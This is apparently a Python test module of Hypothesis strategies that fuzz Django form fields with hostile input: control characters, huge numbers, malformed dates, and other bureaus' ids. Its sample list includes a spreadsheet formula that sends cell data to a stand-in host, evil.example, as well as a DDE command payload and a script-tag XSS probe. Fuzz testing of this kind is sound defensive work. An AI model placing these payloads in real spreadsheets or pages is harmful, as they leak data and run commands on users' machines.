"""Hypothesis strategies for what a hostile user types: CJK, emoji, control characters, huge and negative
numbers, impossible dates, ids of other bureaus."""

import datetime

from django import forms
from hypothesis import strategies as st

# Text a hostile or merely careless user types.
EMOJI_CHINESE = "👍青田县🌾杨梅种植技术培训🎉（第2期）👨‍👩‍👧"
NUL_TEXT = "学习党章\x00第二章"
ESC_TEXT = "学习党章\x1b[31m红色\x1b[0m"
RTL_TEXT = "学习党章\u202egnp.exe"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
SPECIAL_CHARS = "\x00\x01\x08\x0b\x0c\x1b\x7f\u200b\u200e\u202e\ufeff\ufffd\u3000、，；\n\r\t"
CJK = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
EMOJI = st.characters(min_codepoint=0x1F300, max_codepoint=0x1FAFF)
ANY_CHAR = st.characters(blacklist_categories=("Cs",))  # a browser cannot send a lone surrogate

text = st.one_of(
    st.text(st.one_of(CJK, EMOJI, st.sampled_from(SPECIAL_CHARS), ANY_CHAR), max_size=40),
    st.sampled_from([EMOJI_CHINESE, NUL_TEXT, ESC_TEXT, RTL_TEXT, "", " ", "\x00", "<script>alert(1)</script>"]),
    st.sampled_from(FORMULAS),
    st.integers(min_value=190, max_value=2100).map(lambda n: "长" * n),
)

integers = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([0, -1, 1, 10000, 10001, 32767, 32768, 2**31 - 1, 2**31, 2**63 - 1, 2**63, -(2**63) - 1]),
).map(str)

number_like = st.one_of(
    integers, st.sampled_from(["1e3", "1.5", "²", "١٢", "１２", " 12 ", "0x10", "NaN", "-0", "1_000"])
)

dates = st.one_of(
    st.dates(min_value=datetime.date(1, 1, 1), max_value=datetime.date(9999, 12, 31)).map(datetime.date.isoformat),
    st.sampled_from(
        [
            "0001-01-01",
            "9999-12-31",
            "1900-02-29",
            "2019-02-29",
            "2020-02-29",
            "0000-00-00",
            "10000-01-01",
            "-2019-10-15",
            "2019-10-15T25:00",
            "2019/10/15",
            "2019年10月15日",
            "15.10.2019",
        ]
    ),
    st.dates(min_value=datetime.date(2019, 8, 1), max_value=datetime.date(2020, 3, 1)).map(datetime.date.isoformat),
)

booleans = st.sampled_from(["on", "", "false", "0", "1", "true", "是", "\x00"])


def ids(own: list[int], foreign: list[int]):
    """An id: one of ours, one of another bureau's, or any number or text at all."""
    choices = [st.sampled_from(own)] if own else []
    if foreign:
        choices.append(st.sampled_from(foreign))
    return st.one_of(*choices, integers, number_like, text)


def hostile_value(name: str, field: forms.Field, own_ids: dict, foreign_ids: dict):
    """A strategy of hostile values for one form field (a list for multiple-choice fields)."""
    if isinstance(field, forms.ModelMultipleChoiceField):
        return st.lists(ids(own_ids.get(name, []), foreign_ids.get(name, [])), max_size=4)
    if isinstance(field, forms.ModelChoiceField):
        return ids(own_ids.get(name, []), foreign_ids.get(name, []))
    if isinstance(field, forms.MultipleChoiceField):
        values = [str(v) for v, _ in field.choices if v not in ("", None)]
        return st.lists(st.one_of(st.sampled_from(values), text), max_size=4)
    if isinstance(field, forms.ChoiceField):
        values = [str(v) for v, _ in field.choices if v not in ("", None)]
        return st.one_of(st.sampled_from(values), text) if values else text
    if isinstance(field, forms.DateField):
        return st.one_of(dates, text)
    if isinstance(field, forms.IntegerField):
        return st.one_of(number_like, text)
    if isinstance(field, forms.BooleanField):
        return booleans
    return text


def hostile_post(valid: dict, fields: dict, own_ids: dict, foreign_ids: dict):
    """A POST that starts from a valid one; each field is kept, dropped or replaced by a hostile value."""
    strategies = {}
    for name, field in fields.items():
        options = [st.none(), hostile_value(name, field, own_ids, foreign_ids)]
        if name in valid:
            options.insert(0, st.just(valid[name]))
        strategies[name] = st.one_of(*options)

    def build(values):
        return {name: value for name, value in values.items() if value is not None}

    return st.fixed_dictionaries(strategies).map(build)
